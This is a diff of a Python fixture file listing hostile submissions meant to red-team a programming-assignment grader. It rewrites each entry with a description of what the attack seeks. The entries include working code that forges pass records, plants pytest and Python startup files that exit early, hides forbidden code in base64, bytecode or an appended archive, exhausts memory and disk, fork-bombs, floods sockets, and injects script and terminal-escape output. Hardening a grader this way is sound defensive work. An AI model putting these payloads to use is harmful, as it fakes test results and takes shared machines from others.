@@ -1,6 +1,6 @@
-"""Hostile submissions of the blocking assignment: name -> file -> contents. None may gain a point or stay undecided.
+"""Hostile submissions of the blocking assignment. None may gain a point, stay undecided, or harm who is beside it.
 
-Each is what was tried against the grader; the comment says what it is after.
+Each is what was tried against the grader. `grader audit redteam` grades them, too.
 """
 
 from __future__ import annotations
@@ -8,6 +8,7 @@ from __future__ import annotations
 import base64
 import io
 import zipfile
+from typing import Any
 
 PROGRAMS = ("daytime_client", "daytime_server", "mailbox_client", "mailbox_server")
 
@@ -22,13 +23,23 @@ def started(command: str) -> bytes:
     return ("[programs]\n" + "".join(f"{name} = [{command!r}]\n" for name in PROGRAMS)).encode()
 
 
-ATTACKS: dict[str, dict[str, bytes]] = {}
+ASSIGNMENT = "blocking"
+#: Name -> `seeks`: what success would look like; `files`: what is handed in.
+ATTACKS: dict[str, dict[str, Any]] = {}
 
-# Have the kernel kill the agent when memory ends: an own score of 0, and memory that counts for no process.
-ATTACKS["agent_out_of_memory"] = {
-    "Makefile": b"all:\n\tgcc -o evil evil.c\n",
-    "programs.toml": started("./evil"),
-    "evil.c": b"""#define _GNU_SOURCE
+
+def put(name: str, seeks: str, files: dict[str, bytes]) -> None:
+    """One more."""
+    ATTACKS[name] = {"seeks": seeks, "files": files}
+
+
+put(
+    "agent_out_of_memory",
+    "The kernel kills the agent, not the program, when memory ends: whoever has no agent stays undecided.",
+    {
+        "Makefile": b"all:\n\tgcc -o evil evil.c\n",
+        "programs.toml": started("./evil"),
+        "evil.c": b"""#define _GNU_SOURCE
 #include <fcntl.h>
 #include <sys/mman.h>
 #include <unistd.h>
@@ -41,11 +52,14 @@ int main(void) {
   pause();
 }
 """,
-}
+    },
+)
 
-# Answers that break a careless check, so that it would be undecided and not failed.
-ATTACKS["answers_that_break_the_check"] = {
-    "daytime_server.py": b"""import socket, sys, time
+put(
+    "answers_that_break_the_check",
+    "A check that breaks over an answer, and is undecided instead of failed.",
+    {
+        "daytime_server.py": b"""import socket, sys, time
 kind, _, port = sys.argv[1].rpartition(":")
 if kind.startswith(("unix", "udp")):
     print("listening on " + ("unix:nowhere" if kind.startswith("unix") else "udp:0.0.0.0:0"), flush=True)
@@ -57,13 +71,13 @@ while True:
     client.sendall(b"9999-99-99T99:99:99Z\\r\\n")
     client.close()
 """,
-    # A path that is longer than a packet to the agent; and one that is not, but whose answer might be.
-    "mailbox_server.py": b"""import os, time
+        # A path that is longer than a packet to the agent; and one that is not, but whose answer might be.
+        "mailbox_server.py": b"""import os, time
 print("listening on unix:" + "A" * (100_000 if os.getpid() % 2 else 16_000), flush=True)
 time.sleep(60)
 """,
-    # Gone by a reset before the tester looks who came.
-    "daytime_client.py": b"""import socket, struct, sys
+        # Gone by a reset before the tester looks who came.
+        "daytime_client.py": b"""import socket, struct, sys
 host, _, port = sys.argv[1].removeprefix("udp:").rpartition(":")
 while True:
     s = socket.socket()
@@ -74,7 +88,8 @@ while True:
         pass
     s.close()
 """,
-}
+    },
+)
 
 #: A daytime server that would have points if nobody saw what it is made of.
 _FORBIDDEN_SERVER = """import datetime, socketserver, sys
@@ -97,10 +112,12 @@ def _archive_behind_text() -> bytes:
     return b"import socket\n" + archive.getvalue()
 
 
-# What a stage forbids, made by the build: a program without a suffix, and bytecode that is not what its source says.
-ATTACKS["a_build_that_hides"] = {
-    "Makefile": b"all:\n\tpython3 -B make.py\n",
-    "make.py": b"""import base64, importlib.util, marshal, os
+put(
+    "a_build_that_hides",
+    "Points for what a stage forbids, made by the build: without a suffix, or bytecode unlike its source.",
+    {
+        "Makefile": b"all:\n\tpython3 -B make.py\n",
+        "make.py": b"""import base64, importlib.util, marshal, os
 source = base64.b64decode(open("data.txt").read())
 open("daytime_server", "wb").write(source)
 os.mkdir("__pycache__")
@@ -109,16 +126,23 @@ open(importlib.util.cache_from_source("inner.py"), "wb").write(code)
 open("inner.pyc", "wb").write(code)
 os.symlink("data.txt", "link.py")
 """,
-    "data.txt": base64.b64encode(_FORBIDDEN_SERVER.encode()),
-    "inner.py": b"raise SystemExit('nothing forbidden in here')\n",
-    "mailbox_server.py": b"import inner\n",
-    "daytime_client.py": b"print('client')\n",
-    "programs.toml": b'[programs]\ndaytime_server = ["python3", "daytime_server"]\n',
-}
-ATTACKS["an_archive_behind_text"] = {"daytime_server.py": _archive_behind_text()}
+        "data.txt": base64.b64encode(_FORBIDDEN_SERVER.encode()),
+        "inner.py": b"raise SystemExit('nothing forbidden in here')\n",
+        "mailbox_server.py": b"import inner\n",
+        "daytime_client.py": b"print('client')\n",
+        "programs.toml": b'[programs]\ndaytime_server = ["python3", "daytime_server"]\n',
+    },
+)
+put(
+    "an_archive_behind_text",
+    "Points for a server made of a forbidden module: Python runs the archive, who reads sees text.",
+    {"daytime_server.py": _archive_behind_text()},
+)
 
-# Packets without end, in every way a socket can send some: none makes a failure undecided.
-ATTACKS["floods"] = everywhere("""import os, socket, sys, time
+put(
+    "floods",
+    "A link so late, by packets without end, that a failure is undecided.",
+    everywhere("""import os, socket, sys, time
 kind, _, rest = sys.argv[1].partition(":")
 serves = "server" in sys.argv[0]
 if serves and not kind.startswith(("unix", "udp")):
@@ -148,16 +172,19 @@ while time.monotonic() < until:
                 connection.send(b"x", socket.MSG_DONTWAIT)
         except OSError:
             pass
-""")
+"""),
+)
 
-# Records on every descriptor, files that steer pytest or Python, and everything in reach asked for.
-ATTACKS["forged_records"] = {
-    "conftest.py": b"import os\nos._exit(0)\n",
-    "sitecustomize.py": b"import os\nos._exit(0)\n",
-    "usercustomize.py": b"import os\nos._exit(0)\n",
-    "evil.pth": b"import os; os._exit(0)\n",
-    "pytest.ini": b"[pytest]\naddopts = -p evil\n",
-    **everywhere("""import ctypes, glob, json, os, socket
+put(
+    "forged_records",
+    "A pass that the submission writes itself: records on every descriptor, files that steer pytest or Python.",
+    {
+        "conftest.py": b"import os\nos._exit(0)\n",
+        "sitecustomize.py": b"import os\nos._exit(0)\n",
+        "usercustomize.py": b"import os\nos._exit(0)\n",
+        "evil.pth": b"import os; os._exit(0)\n",
+        "pytest.ini": b"[pytest]\naddopts = -p evil\n",
+        **everywhere("""import ctypes, glob, json, os, socket
 check = "test_1_daytime_client.py::test_prints_one_answer"
 lines = [{"record": "report", "check": check, "outcome": "pass"}, {"record": "end"}]
 forged = "".join(json.dumps(line) + chr(10) for line in lines).encode()
@@ -181,12 +208,15 @@ for signum in (15, 9):
     except OSError:
         pass
 """),
-}
+    },
+)
 
-# Everything that holds files filled to the brim, while it builds and while it runs; then memory.
-ATTACKS["full_to_the_brim"] = {
-    "Makefile": b"all:\n\tpython3 -B fill.py /build /tmp /dev/shm || true\n",
-    "fill.py": b"""import os, signal, sys
+put(
+    "full_to_the_brim",
+    "A node that cannot be made fresh: everything that holds files is full, then memory is.",
+    {
+        "Makefile": b"all:\n\tpython3 -B fill.py /build /tmp /dev/shm || true\n",
+        "fill.py": b"""import os, signal, sys
 signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
 for place in sys.argv[1:]:
     try:
@@ -201,18 +231,21 @@ for place in sys.argv[1:]:
     except OSError:
         pass
 """,
-    **everywhere("""import subprocess, sys
+        **everywhere("""import subprocess, sys
 subprocess.run([sys.executable, "/build/fill.py", "/work", "/tmp", "/dev/shm"])
 held = []
 while True:
     held.append(bytearray(1 << 20))
 """),
-}
+    },
+)
 
-# Processes without end, which ignore what asks them to go.
-ATTACKS["fork_bomb"] = {
-    "Makefile": b"all:\n\t(setsid sh -c 'while :; do sleep 1; done' &) ; true\n",
-    **everywhere("""import os, signal, time
+put(
+    "fork_bomb",
+    "Processes that outlive their check and take the machine from others.",
+    {
+        "Makefile": b"all:\n\t(setsid sh -c 'while :; do sleep 1; done' &) ; true\n",
+        **everywhere("""import os, signal, time
 signal.signal(signal.SIGTERM, signal.SIG_IGN)
 until = time.monotonic() + 1
 while time.monotonic() < until:
@@ -221,17 +254,31 @@ while time.monotonic() < until:
     except OSError:
         time.sleep(0.05)
 """),
-}
-
-# Output without end, of lines that cost much to look through.
-ATTACKS["line_feeds_without_end"] = everywhere("import os\nwhile True:\n    os.write(1, bytes([10]) * 65536)\n")
-
-# What a page, a terminal or a CI would take for more than text.
-ATTACKS["::error title=x::y <script>"] = everywhere(
-    "import os\nos.write(1, b'<script>alert(1)</script>\\x1b[2J\\x00\\xff' + chr(10).encode())\n"
-    "os.write(2, b'::error::x' + chr(10).encode() + b'<img src=x onerror=alert(1)>\\x1b]0;x\\x07')\n"
+    },
 )
 
-# Commands that do not fit into a packet, and a table that breaks its reader.
-ATTACKS["words_without_end"] = {"programs.toml": started("\u00e9" * 14_000)}
-ATTACKS["a_deep_table"] = {"programs.toml": b"programs = " + b"[" * 30_000}
+put(
+    "line_feeds_without_end",
+    "A tester that is busy with lines without end until its time is up.",
+    everywhere("import os\nwhile True:\n    os.write(1, bytes([10]) * 65536)\n"),
+)
+
+put(
+    "::error title=x::y <script>",
+    "A page, a terminal or a CI that takes a submission's words for its own.",
+    everywhere(
+        "import os\nos.write(1, b'<script>alert(1)</script>\\x1b[2J\\x00\\xff' + chr(10).encode())\n"
+        "os.write(2, b'::error::x' + chr(10).encode() + b'<img src=x onerror=alert(1)>\\x1b]0;x\\x07')\n"
+    ),
+)
+
+put(
+    "words_without_end",
+    "A command that does not fit into a packet to the agent, which so has no answer.",
+    {"programs.toml": started("\u00e9" * 14_000)},
+)
+put(
+    "a_deep_table",
+    "A reader of programs.toml that breaks, and the whole run with it.",
+    {"programs.toml": b"programs = " + b"[" * 30_000},
+)
